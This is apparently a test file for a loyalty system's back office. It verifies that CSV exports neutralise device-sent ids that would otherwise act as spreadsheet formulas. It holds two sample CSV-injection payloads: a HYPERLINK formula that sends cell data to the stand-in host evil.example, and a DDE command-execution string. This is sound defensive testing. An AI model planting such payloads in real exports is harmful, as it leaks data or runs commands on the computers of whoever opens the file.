"""Ids and names devices send cannot become spreadsheet formulas in any CSV export."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

from central import training_progress
from central.csv_cells import neutralise
from central.embedded import enrol_device
from central.ingest import ingest
from central.transactions import in_transaction
from loyalty.domain.events import PointsEarned

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
COMMAND = "+cmd|' /C calc'!A0"
ROOT = Path(__file__).resolve().parents[2]


def test_cells_that_start_a_formula_are_neutralised():
    for cell in (HYPERLINK, COMMAND, "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise(cell) == "'" + cell
    for cell in ("alice", "-12", "-1.50", "+3", 42, -7, None, "", "a=b"):
        assert neutralise(cell) == cell


def test_every_csv_export_writes_through_the_one_writer():
    writers = [
        str(p.relative_to(ROOT))
        for p in (ROOT / "central").rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))
    ]
    assert writers == ["central/csv_cells.py"]


def _cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter) for cell in row]


def test_device_sent_ids_reach_the_exports_as_text(office, engine):
    enrol_device(engine, "till-x")
    now = f"{date.today().isoformat()}T10:00:00+01:00"
    in_transaction(
        engine,
        lambda c: ingest(
            c,
            [
                PointsEarned(
                    device_id="till-x",
                    seq=1,
                    at=now,
                    cashier_id=HYPERLINK[:60],
                    customer_id="k1",
                    receipt_ref="R1",
                    amount_cents=990,
                    points=9,
                )
            ],
            None,
        ),
    )
    row = training_progress.DrillProgress(COMMAND, "earn", 3, 4000, None)
    in_transaction(engine, lambda c: training_progress.store_rows(c, "till-x", [row]))
    day = date.today().isoformat()
    for variant, delimiter in (("", ";"), ("&variant=data", ",")):  # the spreadsheet file and the scripts' file
        cashiers = office.get(f"/backoffice/reports/cashiers.csv?start={day}&end={day}{variant}")
        training = office.get(f"/backoffice/cashiers/training.csv?{variant}")
        cells = _cells(cashiers.get_data(as_text=True), delimiter) + _cells(training.get_data(as_text=True), delimiter)
        assert "'" + HYPERLINK[:60] in cells and "'" + COMMAND in cells
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
